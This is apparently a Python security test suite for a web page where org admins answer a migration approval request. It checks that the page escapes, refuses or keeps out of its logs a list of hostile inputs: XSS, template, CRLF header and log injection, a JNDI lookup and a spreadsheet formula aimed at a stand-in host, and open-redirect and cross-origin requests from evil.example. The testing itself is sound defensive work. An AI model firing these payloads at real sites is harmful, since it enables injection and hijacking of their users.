"""Hostile and broken requests, and what every page does with each on which people answer.

Cases are functions, so that the same ones run against the deployed functions, and against pages
that were broken on purpose, of which each has to be caught. Ids as in the list of hostile inputs
that the product is held to; those that begin with X are its own.
"""

from __future__ import annotations

import base64
import json
import re
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from datetime import datetime, timedelta
from typing import Any, Final, Protocol
from urllib.parse import urlencode

from tests.adapters.web.desk import AnswerDesk
from tests.builders import a_registration
from tests.questions import TASK_TOKEN, Questioned
from tests.visits import FORM, Page
from zoom_migrator.adapters.memory.system import SettableClock
from zoom_migrator.adapters.web.form_token import FormTokens
from zoom_migrator.domain.org import OrgRegistration

type AnyDesk = AnswerDesk[Questioned]


class World(Protocol):
    """Somewhere a page stands, with people who come to it."""

    @property
    def now(self) -> datetime:
        """What time it is there."""

    def ask(
        self,
        *,
        lifetime: timedelta = timedelta(days=14),
        registration: OrgRegistration | None = None,
    ) -> AnyDesk:
        """Have an org's admin asked a question.

        Args:
            lifetime: How long from now it can be answered.
        """

    def logged(self) -> str:
        """Everything that was printed."""


type Case = Callable[[World], None]

CASES: Final[dict[str, Case]] = {}


def entering[C: Callable[..., None]](cases: dict[str, C]) -> Callable[[str], Callable[[C], C]]:
    """Decorates a case with its number, which enters it under its number and name."""

    def case(number: str) -> Callable[[C], C]:
        def enter(function: C) -> C:
            cases[f"{number} {function.__name__.replace('_', ' ')}"] = function
            return function

        return enter

    return case


case = entering(CASES)

HOSTILE: Final = (
    "<script>alert('canary-7')</script>",
    "\"><img src=x onerror=alert('canary-7')>",
    "javascript:alert('canary-7')",
    "canary-7\u202egnp.exe",
    "{{ 'canary-' ~ 7 }}{% raw %}canary-7",
    "canary-7\r\nSet-Cookie: canary-7=1\r\n\r\n<h1>canary-7",
    "${jndi:ldap://canary-7.example}",
    '=HYPERLINK("https://canary-7.example")',
    "canary-7\x00\x1b[31m",
)
# Every answer has these (RFC 9110; OWASP secure headers).
STRICT: Final = {
    "cache-control": "no-store",
    "content-type": "text/html; charset=utf-8",
    "cross-origin-opener-policy": "same-origin",
    "referrer-policy": "no-referrer",
    "x-content-type-options": "nosniff",
    "x-frame-options": "DENY",
}


def lines(world: World) -> list[dict[str, Any]]:
    """What was printed: JSON, a line each."""
    return [json.loads(line) for line in world.logged().splitlines()]


# Looking changes nothing


@case("S01 C25")
def looking_twenty_times_changes_nothing(world: World) -> None:
    desk = world.ask()
    before = desk.asked.migration

    for method in ("GET", "HEAD") * 10:
        page = desk.visit(method=method)
        assert page.status == 200
        assert (page.html == "") == (method == "HEAD")

    assert desk.asked.migration == before
    assert desk.asked.is_pending


@case("S01")
def a_scanner_that_fills_in_addresses_changes_nothing(world: World) -> None:
    desk = world.ask()
    query = desk.fields() | {"decision": "approve"}

    for method in ("GET", "HEAD"):
        assert desk.visit(method=method, query=query).status == 200
        body = desk.a_visit(method=method, body=urlencode(query), headers={"Content-Type": FORM})
        assert desk.send(body).status == 200

    assert desk.asked.is_pending


@case("C27")
def a_browser_that_guesses_ahead_gets_and_changes_nothing(world: World) -> None:
    desk = world.ask()
    fields = desk.fields()

    for guess in (
        {"Sec-Purpose": "prefetch"},
        {"Sec-Purpose": "prefetch;prerender"},
        {"Purpose": "prefetch"},
        {"X-Moz": "prefetch"},
    ):
        for page in (
            desk.visit(headers=guess),
            desk.send(desk.a_form(fields, headers=guess)),
        ):
            assert (page.status, page.html) == (204, "")

    assert desk.asked.is_pending


@case("C26")
def other_methods_are_refused(world: World) -> None:
    desk = world.ask()
    fields = desk.fields()

    for method in ("OPTIONS", "PUT", "DELETE", "PATCH", "TRACE", "CONNECT", "PROPFIND", "post"):
        event = desk.a_form(fields) | {"httpMethod": method}
        page = desk.send(event)
        assert (page.status, page.headers["allow"]) == (405, "HEAD, GET, POST")
        assert "access-control-allow-origin" not in page.headers

    assert desk.asked.is_pending


@case("X01")
def a_method_in_a_header_or_field_is_not_the_method(world: World) -> None:
    desk = world.ask()
    event = desk.a_visit(
        headers={"X-HTTP-Method-Override": "POST", "X-HTTP-Method": "POST", "Content-Type": FORM},
        query={"_method": "POST"},
        body=urlencode(desk.fields() | {"_method": "POST"}),
    )

    assert desk.send(event).status == 200
    assert desk.asked.is_pending


# Forms


@case("S02")
def a_form_without_its_token_is_refused(world: World) -> None:
    desk = world.ask()
    good = desk.fields()
    issued = good["token"]

    for token in (
        "",
        "x",
        issued[:-1],
        issued + "x",
        issued.replace(".", ""),
        issued[:11] + "A" * 43,
    ):
        page = desk.submit(good | {"token": token})
        assert page.status == 403
    del good["token"]
    assert desk.submit(good).status == 403
    assert desk.asked.is_pending


@case("S02")
def a_token_of_another_request_is_refused(world: World) -> None:
    desk = world.ask()
    tokens = FormTokens(SettableClock(world.now))
    foreign = [desk.link[:-1], desk.link.rpartition(".")[0], desk.asked.question_id, ""]

    for key in foreign:
        assert desk.submit(desk.fields(token=tokens.issue(key))).status == 403
    assert desk.asked.is_pending


@case("S02")
def a_form_that_another_site_sends_is_refused(world: World) -> None:
    desk = world.ask()
    fields = desk.fields()

    for headers in (
        {"Sec-Fetch-Site": "cross-site"},
        {"Sec-Fetch-Site": "same-site"},
        {"Sec-Fetch-Site": "", "Origin": "https://evil.example"},
        {"Sec-Fetch-Site": "", "Origin": "https://pages.example.evil.example"},
    ):
        page = desk.submit(fields, headers=headers)
        assert page.status == 403
        assert "Grace Hopper" not in page.html

    assert desk.asked.is_pending


@case("A11")
def nobody_elses_script_may_read_an_answer(world: World) -> None:
    desk = world.ask()

    for origin in ("null", "https://evil.example"):
        page = desk.visit(headers={"Origin": origin})
        assert not [name for name in page.headers if name.startswith("access-control-")]


@case("X02")
def what_is_no_form_is_refused(world: World) -> None:
    desk = world.ask()
    fields = desk.fields()
    bodies: list[tuple[str, str, int]] = [
        ("application/json", json.dumps(fields), 415),
        ("text/plain", urlencode(fields), 415),
        ("", urlencode(fields), 415),
        ("multipart/form-data; boundary=x", "--x--", 415),
        (FORM, urlencode(fields) + "&decision=decline", 400),
        (FORM, urlencode(fields) + "&" + "&".join(f"f{n}=" for n in range(99)), 400),
        (FORM, urlencode(fields) + "&x=%ff", 400),
        (FORM, urlencode(fields) + "&x=\ud800", 400),
        (FORM, "", 403),
    ]

    for content_type, body, status in bodies:
        event = desk.a_visit(method="POST", headers={"Content-Type": content_type}, body=body)
        assert desk.send(event).status == status, (content_type, body[-40:])
    assert desk.asked.is_pending


@case("X03")
def an_encoded_form_is_the_same_form(world: World) -> None:
    desk = world.ask()
    event = desk.a_form(desk.fields())
    encoded = base64.b64encode(event["body"].encode()).decode()

    assert desk.send(event | {"body": "%%%", "isBase64Encoded": True}).status == 400
    assert desk.send(event | {"body": encoded, "isBase64Encoded": True}).status == 303
    assert desk.asked.is_recorded_once


# Links


@case("C22")
def too_much_of_anything_is_refused(world: World) -> None:
    desk = world.ask()
    fields = desk.fields()

    for link in ("A" * 9_000, desk.link + "A" * 9_000, desk.link * 60, "." * 9_000):
        assert desk.visit(link).status == 404
        assert desk.send(desk.a_form(fields, link)).status == 404
    for much in (fields | {"name": "N" * 9_000}, fields | {"x" * 9_000: ""}):
        assert desk.submit(much).status == 413
    huge = {"User-Agent": "M" * 9_000, "Cookie": "c" * 9_000, "Origin": "o" * 9_000}
    assert desk.visit(headers=huge).status == 200
    assert desk.asked.is_pending


@case("C14")
def a_damaged_link_leads_nowhere_and_says_no_more(world: World) -> None:
    desk = world.ask()
    link, fields = desk.link, desk.fields()
    text, _, signature = link.rpartition(".")
    damaged = {
        "": 404,
        "x": 404,
        text: 404,
        link[:-1]: 404,
        link + "A": 404,
        f"{text}.{'A' * 43}": 404,
        f"{text}.{signature[::-1]}": 404,
        link.replace(".1.", ".2."): 404,
        link.swapcase(): 404,
        link.replace(desk.purpose, "authorize"): 404,
        link + "%00": 404,
        link + "\n": 404,
        "../" + link: 404,
        "٤" + link: 404,
    }

    pages = [desk.visit(each) for each in damaged]
    pages += [desk.send(desk.a_form(fields, each)) for each in damaged]

    assert {page.status for page in pages} == {404}
    assert len({page.html for page in pages}) == 1
    assert desk.asked.is_pending


@case("C14")
def every_letter_of_a_link_counts(world: World) -> None:
    desk = world.ask()
    link = desk.link

    for place in range(0, len(link), 7):
        other = "A" if link[place] != "A" else "B"
        assert desk.visit(link[:place] + other + link[place + 1 :]).status == 404


@case("S03")
def a_link_that_is_out_of_date_is_gone(world: World) -> None:
    desk = world.ask(lifetime=-timedelta(seconds=1))
    token = FormTokens(SettableClock(world.now)).issue(desk.link)

    for page in (desk.open(), desk.submit({**desk.filled_in(), "token": token})):
        assert (page.status, page.heading) == (410, "This request is out of date")
    assert desk.asked.is_pending


@case("S03")
def a_request_that_was_withdrawn_is_gone(world: World) -> None:
    desk = world.ask()
    fields = desk.fields()
    desk.asked.withdraw()

    for page in (desk.open(), desk.submit(fields)):
        assert (page.status, page.heading) == (410, "This request was withdrawn")
    assert desk.asked.answers_on_record() == []


# Answers


@case("A01")
def an_answer_is_recorded_with_who_when_what_and_from_where(world: World) -> None:
    desk = world.ask()

    page = desk.submit()

    assert (page.status, page.headers["location"]) == (303, desk.link)
    answer = desk.asked.question.answer
    assert answer is not None
    assert (answer.name, answer.email) == ("Grace Hopper", "salesforce.admin@acme.example")
    assert answer.source.startswith("203.0.113.7 Mozilla/5.0")
    assert abs(answer.at - world.now) < timedelta(minutes=5)
    assert desk.asked.is_recorded_once


@case("C08")
def a_form_that_is_sent_again_records_nothing_more(world: World) -> None:
    desk = world.ask()
    fields = desk.fields()
    first = desk.submit(fields)
    kept = desk.asked.migration

    again = [desk.submit(fields), desk.submit(fields | {"decision": "decline", "name": "Eve"})]

    assert first.status == 303
    assert [page.status for page in again] == [409, 409]
    assert {page.heading for page in again} == {desk.approved}
    assert desk.asked.migration == kept
    assert desk.asked.is_recorded_once


@case("C09 S07")
def of_two_tabs_that_answer_at_once_one_is_recorded(world: World) -> None:
    desk = world.ask()
    approving = desk.fields(name="First Tab")
    declining = desk.fields(name="Second Tab", decision="decline")

    with ThreadPoolExecutor(6) as people:
        pages = list(people.map(desk.submit, [approving, declining] * 6))

    assert sorted(page.status for page in pages) == [303] + [409] * 11
    assert desk.asked.is_recorded_once


# What is shown


@case("C18")
def nothing_of_an_address_is_shown(world: World) -> None:
    desk = world.ask()
    innocent = desk.open()

    for text in HOSTILE:
        query = {"error": text, "error_description": text, "next": text, text: "x"}
        page = desk.visit(query=query)
        assert "canary-7" not in page.html
        assert [each.tag for each in page.elements] == [each.tag for each in innocent.elements]
        nowhere = desk.visit(text, query=query)
        assert nowhere.status == 404
        assert "canary-7" not in nowhere.html


@case("A06")
def names_from_outside_are_text(world: World) -> None:
    for text in HOSTILE:
        registration = a_registration(display_name=text, host=text)
        is_only_text(world.ask(registration=registration).open(), text)


def is_only_text(page: Page, text: str) -> None:
    """A page shows one of the hostile texts, and only as text."""
    assert "<script" not in page.html
    assert "<img" not in page.html
    assert "\u202e" not in page.html
    assert "\x1b" not in page.html
    assert not [each for each in page.elements if "canary-7" in " ".join(each.attributes.values())]
    if "{{" in text:
        assert "{{ 'canary-' ~ 7 }}" in page.text


@case("C18")
def what_is_typed_stays_in_its_field(world: World) -> None:
    desk = world.ask()
    innocent = desk.submit(desk.fields(email="wrong"))

    for text in HOSTILE:
        page = desk.submit(desk.fields(name=text, email=text, decision=text))
        assert page.status == 422
        assert {each.tag for each in page.elements} == {each.tag for each in innocent.elements}
        assert places_of("canary-7", page) <= {"name", "email"}


def places_of(text: str, page: Page) -> set[str]:
    """The ids of all elements with an attribute that has the text in it."""
    return {
        each.attributes["id"]
        for each in page.elements
        if text in " ".join(each.attributes.values())
    }


@case("C19")
def no_header_can_be_made_up(world: World) -> None:
    desk = world.ask()
    text = "x\r\nX-Made-Up: 1\r\n\r\n<h1>"

    pages = [
        desk.visit(desk.link + text),
        desk.visit(query={"a": text}, headers={"X-Forwarded-Host": text}),
        desk.submit(desk.fields(name=text)),
    ]

    for page in pages:
        assert "x-made-up" not in page.headers
        assert not re.search(r"[\r\n]", "".join([*page.headers, *page.headers.values()]))


@case("C19 N07")
def no_line_of_the_log_can_be_made_up(world: World) -> None:
    desk = world.ask()
    text = 'x\n{"message": "page_answered", "outcome": "canary-7"}\r\n'

    desk.visit(text, query={"a": text}, headers={"User-Agent": text})
    desk.submit(desk.fields(name=text, email=text))

    assert lines(world)
    assert "canary-7" not in world.logged()


@case("C28")
def nobody_is_sent_elsewhere(world: World) -> None:
    desk = world.ask()
    elsewhere = "//evil.example/%2f.."
    wishes = dict.fromkeys(("redirect", "next", "return_to", "RelayState", "url"), elsewhere)
    event = desk.a_form(desk.fields() | wishes, headers={"Host": "evil.example"})
    event["queryStringParameters"] = wishes
    event["headers"] |= {"X-Forwarded-Host": "evil.example", "Referer": "https://evil.example"}

    page = desk.send(event)

    assert (page.status, page.headers["location"]) == (303, desk.link)
    assert "evil" not in json.dumps(dict(page.headers)) + page.html


@case("C30 S11")
def every_answer_is_strict(world: World) -> None:
    for page in answers_of_all_kinds(world):
        for name, value in STRICT.items():
            assert page.headers[name] == value, (page.status, name)
        years = int(page.headers["strict-transport-security"].partition("=")[2])
        assert years >= 31_536_000
        policy = page.headers["content-security-policy"]
        for part in ("default-src 'none'", "frame-ancestors 'none'", "base-uri 'none'"):
            assert part in policy
        assert "unsafe" not in policy
        if page.html:
            target = "'self'" if "<form" in page.html else "'none'"
            assert f"form-action {target};" in policy
        assert "set-cookie" not in page.headers


def answers_of_all_kinds(world: World) -> Iterator[Page]:
    """Every status that the page answers with, an error of ours left out."""
    desk = world.ask()
    fields = desk.fields()
    seen = [
        desk.open(),
        desk.visit(method="HEAD"),
        desk.visit("x"),
        desk.visit(method="PUT"),
        desk.visit(headers={"Sec-Purpose": "prefetch"}),
        desk.visit(method="POST", body="x"),
        desk.submit(fields | {"x" * 9_000: ""}),
        desk.submit(fields | {"token": ""}),
        desk.submit(fields | {"name": ""}),
        desk.send(desk.a_form(fields) | {"body": "a=1&a=2"}),
        desk.submit(fields),
        desk.submit(fields),
        desk.open(),
    ]
    assert {page.status for page in seen} == {
        *(200, 204, 303, 400, 403, 404, 405, 409, 413, 415, 422)
    }
    yield from seen


@case("A12 C40")
def no_secret_is_shown_or_logged(world: World) -> None:
    desk = world.ask()
    sealed, link = desk.asked.question.task_token, desk.link
    fields = desk.fields(email="typed.canary@acme.example")
    pages = [desk.open(), desk.submit(fields), desk.submit(desk.fields()), desk.open()]
    pages += [desk.visit(link[:-2])]

    shown = "".join(page.html for page in pages)
    for secret in (TASK_TOKEN, sealed, link.rpartition(".")[2]):
        assert secret not in shown
        assert secret not in world.logged()
    for private in (fields["token"], "typed.canary", "Grace Hopper", link[:-2]):
        assert private not in world.logged()


@case("X04")
def a_visit_is_one_line_of_the_log(world: World) -> None:
    desk = world.ask()

    desk.open()
    desk.submit(desk.fields(name=""))
    desk.submit()

    visits = [line for line in lines(world) if line.get("message") == "page_answered"]
    assert [(line["status"], line["outcome"]) for line in visits] == [
        (200, "form_shown"),
        (200, "form_shown"),
        (422, "form_incomplete"),
        (200, "form_shown"),
        (303, "approved"),
    ]
    assert {(line["org_id"], line["attempt"]) for line in visits} == {(desk.asked.org_id, 1)}
